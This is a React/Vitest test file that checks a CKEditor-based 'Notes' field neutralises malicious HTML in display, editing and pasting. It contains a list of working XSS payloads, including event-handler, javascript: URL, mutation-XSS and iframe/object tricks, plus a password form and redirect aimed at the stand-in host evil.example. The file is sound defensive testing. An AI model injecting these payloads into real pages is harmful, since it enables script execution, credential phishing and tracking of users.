import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { TestView } from '../testing/TestView.tsx';

const maliciousScript = 'globalThis.hasRun=true';
const maliciousImage = `<img src="x" onerror="${maliciousScript}">`;

/** Malicious HTML from other programs, authors and pasted content. */
const attacks: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>${maliciousScript}</script>`],
  ['a script in a list', `<ul><li><script>${maliciousScript}</script>x</li></ul>`],
  ['an event', maliciousImage],
  ['an event of a part that opens by itself', `<details open ontoggle="${maliciousScript}">x</details>`],
  [
    'an event of a drawing',
    `<svg onload="${maliciousScript}"><animate onbegin="${maliciousScript}" attributeName="x" dur="1s"/></svg>`,
  ],
  ['a link that is code', `<a href="javascript:${maliciousScript}">x</a>`],
  [
    'a link that is code, broken up',
    `<a href="java&#10;script:${maliciousScript}">x</a><a href="&#1;javascript:${maliciousScript}">y</a>`,
  ],
  ['a link that is a page', `<a href="data:text/html,<script>${maliciousScript}</script>">x</a>`],
  ['a frame', `<iframe srcdoc="<script>parent.hasRun=true</script>"></iframe>`],
  [
    'an object',
    `<object data="data:text/html,<script>${maliciousScript}</script>"></object><embed src="javascript:${maliciousScript}">`,
  ],
  ['a style that covers the page', '<p style="position:fixed;inset:0;background:red">x</p>'],
  ['a style sheet', '<style>*{display:none}</style><link rel="stylesheet" href="//evil.example/a.css">'],
  ['a form', '<form action="//evil.example"><input name="password"><button>Sign in</button></form>'],
  ['another base, another page', '<base href="//evil.example/"><meta http-equiv="refresh" content="0;//evil.example">'],
  ['a picture that tells who reads', '<img src="https://evil.example/a.png" srcset="//evil.example/b.png 2x">'],
  [
    'a drawing in a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${maliciousScript}'/>">`,
  ],
  ['a template', `<template><p>${maliciousImage}</p></template>`],
  [
    'mutation by a style in maths',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${maliciousImage}">`,
  ],
  ['mutation by a style in a drawing', `<svg></p><style><a id="</style>${maliciousImage}">`],
  ['mutation by noscript', `<noscript><p title="</noscript>${maliciousImage}">`],
  ['mutation by two forms', `<form><math><mtext></form><form><mglyph><style></math>${maliciousImage}`],
  ['mutation by a comment', `<!--><svg><!--${maliciousImage}--></svg>`],
  ['mutation by a title', `<svg><title><style><img title="</title>${maliciousImage}"></style></title></svg>`],
  [
    'a table’s background',
    `<table background="javascript:${maliciousScript}"><tr><td onclick="${maliciousScript}">x</table>`,
  ],
];

const forbiddenSelector =
  'script,style,link,meta,base,iframe,object,embed,svg,math,form,input,button,template,noscript,audio,video';

function findMaliciousContent(root: ParentNode): readonly string[] {
  const elements = [...root.querySelectorAll('*')];
  const attributes = elements.flatMap((element) => [...element.attributes].map(({ name }) => name));
  const addresses = [...root.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol);
  return [
    ...[...root.querySelectorAll(forbiddenSelector)].map(({ tagName }) => tagName),
    ...attributes.filter(
      (name) => name.startsWith('on') || ['srcdoc', 'srcset', 'background', 'popover'].includes(name),
    ),
    ...addresses.filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)),
    ...[...root.querySelectorAll('img')].map((image) => image.src).filter((src) => src.includes('evil.example')),
  ];
}

const parseHtml = (html: string) => new DOMParser().parseFromString(html, 'text/html').body;
const definition = { type: 'textarea', key: 'n', label: 'Notes', editor: 'ckeditor' };
const getTextbox = () => screen.getByRole('textbox', { name: 'Notes' });

beforeEach(() => Reflect.deleteProperty(globalThis, 'hasRun'));
afterEach(() => {
  cleanup();
  expect(globalThis).not.toHaveProperty('hasRun');
});

describe.each(attacks)('%s', (_, html) => {
  it('runs no code in a read-only text', () => {
    const { container } = render(<TestView definition={definition} answer={`<p>before</p>${html}`} readOnly />);
    const prose = container.querySelector('[role=group]')!;
    expect(prose.textContent).toContain('before');
    expect([findMaliciousContent(prose), prose.querySelectorAll('[style]').length]).toEqual([[], 0]);
  });

  it('runs no code in the editor, and is removed from the stored text', async () => {
    const onChange = vi.fn();
    render(<TestView definition={definition} answer={`<p>before</p>${html}`} onChange={onChange} />);
    expect(findMaliciousContent(getTextbox())).toEqual([]);
    await userEvent.click(screen.getByText('before'));
    await userEvent.keyboard('!');
    const stored = parseHtml(onChange.mock.lastCall![0]);
    expect(stored.textContent).toMatch(/before|!/);
    expect([findMaliciousContent(stored), stored.querySelectorAll('[style]').length]).toEqual([[], 0]);
  });

  it('runs no code when pasted', async () => {
    const onChange = vi.fn();
    render(<TestView definition={definition} answer="<p>before</p>" onChange={onChange} />);
    await userEvent.click(screen.getByText('before'));
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/html', `<b>pasted</b>${html}`);
    getTextbox().dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    await expect.poll(() => onChange.mock.lastCall?.[0]).toContain('pasted');
    expect([findMaliciousContent(getTextbox()), findMaliciousContent(parseHtml(onChange.mock.lastCall![0]))]).toEqual([
      [],
      [],
    ]);
  });
});
